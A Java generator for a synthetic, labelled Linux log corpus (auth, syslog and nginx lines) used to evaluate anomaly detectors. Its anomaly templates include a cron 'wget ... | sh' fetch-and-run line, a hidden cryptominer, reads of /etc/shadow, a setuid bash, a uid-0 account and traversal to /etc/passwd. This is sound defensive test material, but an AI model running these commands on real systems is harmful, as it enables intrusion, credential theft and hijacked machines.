package dev.forja.samples;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;

/**
 * A synthetic stream of Linux server logs (auth.log, syslog and nginx access lines from four hosts) with injected,
 * labelled anomalies, for {@code forja eval --task anomaly}. Written as {@code {"text", "label", "kind"}} JSON lines:
 * {@code label} is {@code normal} or {@code anomaly}; {@code kind} names the line's source ({@code ssh}, {@code sudo},
 * {@code cron}, {@code system}, {@code nginx}) for a normal line and the attack for an anomaly:
 *
 * <ul>
 *   <li>{@code brute_force}: a burst of failed ssh logins from one outside address (invalid users, root, then
 *       sometimes an accepted login from that address);
 *   <li>{@code privilege_escalation}: sudo or su to root by users who never do it, {@code usermod -aG sudo}, a new
 *       user with uid 0, a setuid shell;
 *   <li>{@code unusual_process}: a miner under {@code /tmp/.x/}, {@code wget ... | sh} in cron, reads of
 *       {@code /etc/shadow}, requests for {@code /.env} or traversal to {@code /etc/passwd}.
 * </ul>
 *
 * <p>The training split holds normal lines only; the test split is a later stretch of the same stream with anomalies
 * in it (about 6% of its lines). Normal traffic has its own rare-but-legitimate lines (a mistyped password from the
 * office network, an apt upgrade, a logrotate run), and several anomalies reuse normal templates with an unusual user,
 * address or command, so that counting masked templates does not find everything. Everything derives from one seeded
 * {@link Random}: the same seed and sizes give the same bytes on any JVM.
 */
public final class LogAnomalyCorpus {
    public static final long SEED = 20_261_206L;
    public static final int TRAIN_LINES = 4000;
    public static final int TEST_LINES = 2000;
    /** Where the committed output lives, relative to the repository root. */
    public static final String DIR = "samples/logs";

    public static final List<String> ANOMALY_KINDS = List.of("brute_force", "privilege_escalation", "unusual_process");

    /** One log line; {@code kind} is its source for a normal line, its attack for an anomaly. */
    public record Line(String text, String label, String kind) {}

    /** The two splits. */
    public record Splits(List<Line> train, List<Line> test) {}

    private static final String[] HOSTS = {"web01", "web02", "db01", "bastion"};
    private static final String[] STAFF = {"alice", "bob", "carlos", "maria", "lucia", "deploy", "backup", "jenkins"};
    private static final String[] ADMINS = {"alice", "carlos", "deploy"};
    private static final String[] ADMIN_COMMANDS = {
        "/usr/bin/systemctl restart nginx",
        "/usr/bin/systemctl status app",
        "/usr/bin/journalctl -u app --since today",
        "/usr/bin/apt-get update",
        "/usr/bin/docker ps",
        "/usr/bin/docker compose pull",
        "/usr/sbin/nginx -t",
        "/usr/bin/tail -n 200 /var/log/nginx/error.log",
        "/usr/bin/certbot renew"
    };
    private static final String[] CRON_JOBS = {
        "/usr/local/bin/backup.sh",
        "   cd / && run-parts --report /etc/cron.hourly",
        "/usr/lib/php/sessionclean",
        "/usr/local/bin/rotate-reports --days 30",
        "test -x /usr/sbin/anacron || /usr/sbin/anacron -s"
    };
    private static final String[] PAGES = {
        "/", "/index.html", "/api/orders/%d", "/api/products?page=%d", "/api/cart", "/static/app.%x.js",
        "/static/styles.%x.css", "/login", "/health", "/api/users/%d/profile", "/images/p%d.jpg", "/favicon.ico"
    };
    private static final String[] AGENTS = {
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/124.0 Safari/537.36",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 Version/17.4 Safari/605.1.15",
        "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
        "kube-probe/1.29",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148"
    };
    private static final String[] INVALID_USERS = {
        "admin", "oracle", "test", "ubuntu", "pi", "postgres", "guest", "user", "ftpuser", "git", "support"
    };
    private static final String[] SERVICE_USERS = {"www-data", "nobody", "postgres", "jenkins", "backup", "lucia"};

    private final Random rnd;
    private long clock = 6 * 3600; // seconds since midnight, 1 March

    private LogAnomalyCorpus(long seed) {
        rnd = new Random(seed);
    }

    /**
     * {@code trainLines} normal lines, then a test stretch of {@code testLines} lines with anomalies injected about 6%
     * of the time (brute-force bursts count each of their lines).
     */
    public static Splits generate(long seed, int trainLines, int testLines) {
        if (trainLines < 100 || testLines < 100) {
            throw new IllegalArgumentException(
                    "use at least 100 lines per split, got " + trainLines + " and " + testLines);
        }
        LogAnomalyCorpus g = new LogAnomalyCorpus(seed);
        List<Line> train = new ArrayList<>(trainLines);
        while (train.size() < trainLines) train.add(g.normal());
        List<Line> test = new ArrayList<>(testLines);
        while (test.size() < testLines) {
            if (g.rnd.nextInt(100) < 2) {
                for (Line l : g.anomaly()) if (test.size() < testLines) test.add(l);
            } else {
                test.add(g.normal());
            }
        }
        return new Splits(train, test);
    }

    /** The lines as JSON lines, UTF-8 text with a final newline. */
    public static String toJsonl(List<Line> lines) {
        StringBuilder sb = new StringBuilder();
        for (Line l : lines) {
            Map<String, String> m = new LinkedHashMap<>();
            m.put("text", l.text());
            m.put("label", l.label());
            m.put("kind", l.kind());
            sb.append(SampleJson.line(m)).append('\n');
        }
        return sb.toString();
    }

    /** Writes {@code train.jsonl} and {@code test.jsonl} of {@link #generate} into {@code dir} (created if needed). */
    public static void write(Path dir, long seed, int trainLines, int testLines) throws IOException {
        Splits s = generate(seed, trainLines, testLines);
        Files.createDirectories(dir);
        Files.writeString(dir.resolve("train.jsonl"), toJsonl(s.train()), StandardCharsets.UTF_8);
        Files.writeString(dir.resolve("test.jsonl"), toJsonl(s.test()), StandardCharsets.UTF_8);
    }

    /** Regenerates the committed files: {@code java ... dev.forja.samples.LogAnomalyCorpus [dir]}. */
    public static void main(String[] args) throws IOException {
        Path out = Path.of(args.length > 0 ? args[0] : DIR);
        write(out, SEED, TRAIN_LINES, TEST_LINES);
        System.out.println("wrote " + TRAIN_LINES + " + " + TEST_LINES + " lines to " + out);
    }

    // ---- normal traffic ----

    private Line normal() {
        int u = rnd.nextInt(100);
        if (u < 40) return new Line(nginx(officeOrClient(), page(), normalStatus()), "normal", "nginx");
        if (u < 58) return new Line(sshNormal(), "normal", "ssh");
        if (u < 66) return new Line(sudoNormal(), "normal", "sudo");
        if (u < 78) return new Line(cronNormal(), "normal", "cron");
        return new Line(systemNormal(), "normal", "system");
    }

    private String sshNormal() {
        String user = pick(STAFF);
        int k = rnd.nextInt(100);
        String ip = office();
        if (k < 40) {
            return header("sshd") + "Accepted publickey for " + user + " from " + ip + " port " + port()
                    + " ssh2: ED25519 SHA256:" + fingerprint(user);
        }
        if (k < 55)
            return header("sshd") + "Accepted password for " + user + " from " + ip + " port " + port() + " ssh2";
        if (k < 75) {
            return header("sshd") + "pam_unix(sshd:session): session opened for user " + user + "(uid=" + uid(user)
                    + ") by (uid=0)";
        }
        if (k < 90) return header("sshd") + "pam_unix(sshd:session): session closed for user " + user;
        if (k < 95)
            return header("sshd") + "Received disconnect from " + ip + " port " + port() + ":11: disconnected by user";
        // rare but normal: a mistyped password from the office network
        return header("sshd") + "Failed password for " + user + " from " + ip + " port " + port() + " ssh2";
    }

    private String sudoNormal() {
        String user = pick(ADMINS);
        if (rnd.nextInt(10) == 0) {
            return header("sudo") + "pam_unix(sudo:session): session opened for user root(uid=0) by " + user + "(uid="
                    + uid(user) + ")";
        }
        return sudo(user, "/home/" + user, "root", pick(ADMIN_COMMANDS));
    }

    private String cronNormal() {
        int k = rnd.nextInt(10);
        if (k < 4) return header("CRON") + "(root) CMD (" + pick(CRON_JOBS) + ")";
        if (k < 6) return header("CRON") + "(backup) CMD (/usr/local/bin/backup.sh --incremental)";
        if (k < 8) return header("CRON") + "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)";
        return header("CRON") + "pam_unix(cron:session): session closed for user root";
    }

    private String systemNormal() {
        String user = pick(STAFF);
        return switch (rnd.nextInt(12)) {
            case 0 -> header("systemd") + "Started Daily apt download activities.";
            case 1 -> header("systemd") + "Starting Clean php session files...";
            case 2 -> header("systemd") + "phpsessionclean.service: Succeeded.";
            case 3 -> header("systemd") + "Started Session " + (1 + rnd.nextInt(9000)) + " of user " + user + ".";
            case 4 -> header("systemd-logind") + "New session " + (1 + rnd.nextInt(9000)) + " of user " + user + ".";
            case 5 ->
                header("systemd-logind") + "Session " + (1 + rnd.nextInt(9000))
                        + " logged out. Waiting for processes to exit.";
            case 6 -> header("dhclient") + "DHCPACK of " + office() + " from 10.0.0.1";
            case 7 ->
                header("dhclient") + "bound to " + office() + " -- renewal in " + (600 + rnd.nextInt(3000))
                        + " seconds.";
            case 8 ->
                header("kernel") + "[" + rnd.nextInt(900000) + "." + rnd.nextInt(1000000)
                        + "] e1000e: eth0 NIC Link is Up 1000 Mbps Full Duplex";
            case 9 -> header("systemd") + "logrotate.service: Succeeded.";
            case 10 -> header("ntpd") + "adjusting local clock by 0." + rnd.nextInt(1000) + "ms";
            default ->
                rnd.nextInt(4) == 0
                        // rare but normal: a package upgrade
                        ? header("apt") + "upgrade "
                                + pick(new String[] {"openssl", "libc6", "nginx", "curl", "tzdata"})
                                + ":amd64 " + (1 + rnd.nextInt(3)) + "." + rnd.nextInt(20) + "." + rnd.nextInt(9) + "-"
                                + (1 + rnd.nextInt(5)) + "ubuntu0." + rnd.nextInt(4)
                        : header("rsyslogd") + "[origin software=\"rsyslogd\"] rsyslogd was HUPed";
        };
    }

    private String page() {
        String p = pick(PAGES);
        if (p.contains("%x")) return String.format(p, rnd.nextInt(1 << 24));
        if (p.contains("%d")) return String.format(p, 1 + rnd.nextInt(5000));
        return p;
    }

    private int normalStatus() {
        int k = rnd.nextInt(100);
        return k < 85 ? 200 : k < 92 ? 304 : k < 97 ? 404 : 302;
    }

    // ---- anomalies ----

    private List<Line> anomaly() {
        return switch (rnd.nextInt(3)) {
            case 0 -> bruteForce();
            case 1 -> List.of(new Line(privilegeEscalation(), "anomaly", "privilege_escalation"));
            default -> List.of(new Line(unusualProcess(), "anomaly", "unusual_process"));
        };
    }

    private List<Line> bruteForce() {
        String ip = outside();
        List<Line> out = new ArrayList<>();
        int n = 3 + rnd.nextInt(6);
        for (int i = 0; i < n; i++) {
            clock += rnd.nextInt(2);
            int k = rnd.nextInt(4);
            String user = k == 0 ? "root" : pick(INVALID_USERS);
            String text = switch (k) {
                case 0 -> header("sshd") + "Failed password for root from " + ip + " port " + port() + " ssh2";
                case 1 -> header("sshd") + "Invalid user " + user + " from " + ip + " port " + port();
                case 2 ->
                    header("sshd") + "Failed password for invalid user " + user + " from " + ip + " port " + port()
                            + " ssh2";
                default ->
                    header("sshd") + "Failed password for " + pick(STAFF) + " from " + ip + " port " + port() + " ssh2";
            };
            out.add(new Line(text, "anomaly", "brute_force"));
        }
        if (rnd.nextInt(3) == 0) {
            out.add(new Line(
                    header("sshd") + "Disconnecting authenticating user root " + ip + " port " + port()
                            + ": Too many authentication failures [preauth]",
                    "anomaly",
                    "brute_force"));
        } else if (rnd.nextInt(2) == 0) {
            // the attempt that worked: a normal template with an outside address
            out.add(new Line(
                    header("sshd") + "Accepted password for " + pick(STAFF) + " from " + ip + " port " + port()
                            + " ssh2",
                    "anomaly",
                    "brute_force"));
        }
        return out;
    }

    private String privilegeEscalation() {
        String user = pick(SERVICE_USERS);
        return switch (rnd.nextInt(7)) {
            case 0 -> sudo(user, "/tmp", "root", pick(new String[] {"/bin/bash", "/bin/sh -i", "/usr/bin/python3 -c"}));
            case 1 -> sudo(pick(ADMINS), "/tmp", "root", "/usr/bin/chmod u+s /bin/bash");
            case 2 -> header("su") + "(to root) " + user + " on pts/" + rnd.nextInt(4);
            case 3 ->
                header("usermod") + "add '" + pick(new String[] {"support", user, "backup2"}) + "' to group 'sudo'";
            case 4 ->
                header("useradd") + "new user: name=" + pick(new String[] {"sysadmin", "support", "nginx2"})
                        + ", UID=0, GID=0, home=/root, shell=/bin/bash";
            case 5 ->
                header("sudo") + "   " + user + " : user NOT in sudoers ; TTY=pts/" + rnd.nextInt(4) + " ; PWD=/home/"
                        + user + " ; USER=root ; COMMAND=/bin/bash";
            default -> sudo(user, "/var/www", "root", pick(ADMIN_COMMANDS));
        };
    }

    private String unusualProcess() {
        String ip = outside();
        return switch (rnd.nextInt(7)) {
            case 0 ->
                header("CRON") + "(www-data) CMD (/tmp/.x/miner -o pool." + pick(new String[] {"xmr", "mine"})
                        + "hub.net:" + (3333 + rnd.nextInt(2000)) + " --background)";
            case 1 -> header("CRON") + "(root) CMD (wget -q -O- http://" + ip + "/s.sh | sh)";
            case 2 -> sudo(pick(ADMINS), "/home/" + pick(ADMINS), "root", "/usr/bin/cat /etc/shadow");
            case 3 ->
                header("kernel") + "[" + rnd.nextInt(900000) + "." + rnd.nextInt(1000000)
                        + "] audit: type=1400 apparmor=\"DENIED\" operation=\"open\" name=\"/etc/shadow\" comm=\"kworkerd\" pid="
                        + pid();
            case 4 ->
                nginx(ip, pick(new String[] {"/.env", "/.git/config", "/wp-login.php", "/phpmyadmin/index.php"}), 404);
            case 5 -> nginx(ip, "/static/../../../../etc/passwd", 400);
            default -> header("systemd") + "Started /tmp/.x/kworkerd -c /tmp/.x/config.json.";
        };
    }

    // ---- pieces ----

    private String sudo(String user, String pwd, String target, String command) {
        return header("sudo") + "   " + user + " : TTY=pts/" + rnd.nextInt(4) + " ; PWD=" + pwd + " ; USER=" + target
                + " ; COMMAND=" + command;
    }

    private String nginx(String ip, String path, int status) {
        String method = path.startsWith("/api/cart") || path.equals("/login") ? "POST" : "GET";
        tick();
        int day = 1 + (int) (clock / 86400);
        long s = clock % 86400;
        return String.format(
                "%s - - [%02d/Mar/2026:%02d:%02d:%02d +0000] \"%s %s HTTP/1.1\" %d %d \"-\" \"%s\"",
                ip, day, s / 3600, s / 60 % 60, s % 60, method, path, status, 200 + rnd.nextInt(30000), pick(AGENTS));
    }

    /** Syslog's prefix: timestamp, host, program[pid]. */
    private String header(String program) {
        boolean pid = !program.equals("kernel") && !program.equals("su");
        return timestamp() + " " + pick(HOSTS) + " " + program + (pid ? "[" + pid() + "]" : "") + ": ";
    }

    private String timestamp() {
        tick();
        int day = 1 + (int) (clock / 86400);
        long s = clock % 86400;
        return String.format("Mar %2d %02d:%02d:%02d", day, s / 3600, s / 60 % 60, s % 60);
    }

    private void tick() {
        clock += rnd.nextInt(20);
    }

    private String office() {
        return "10.0." + rnd.nextInt(8) + "." + (2 + rnd.nextInt(250));
    }

    private String officeOrClient() {
        if (rnd.nextInt(3) == 0) return office();
        return (11 + rnd.nextInt(180)) + "." + rnd.nextInt(256) + "." + rnd.nextInt(256) + "." + (1 + rnd.nextInt(254));
    }

    private String outside() {
        String[] nets = {"185.220.101.", "45.146.165.", "193.32.162.", "103.149.28.", "61.177.172."};
        return pick(nets) + (1 + rnd.nextInt(254));
    }

    private int port() {
        return 32768 + rnd.nextInt(28000);
    }

    private int pid() {
        return 300 + rnd.nextInt(60000);
    }

    private static int uid(String user) {
        for (int i = 0; i < STAFF.length; i++) if (STAFF[i].equals(user)) return 1001 + i;
        return 0;
    }

    /** A stable key fingerprint per user (43 base64 characters), as sshd logs it. */
    private static String fingerprint(String user) {
        Random r = new Random(user.hashCode());
        String alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        StringBuilder sb = new StringBuilder();
        for (int i = 0; i < 43; i++) sb.append(alphabet.charAt(r.nextInt(64)));
        return sb.toString();
    }

    private String pick(String[] options) {
        return options[rnd.nextInt(options.length)];
    }
}
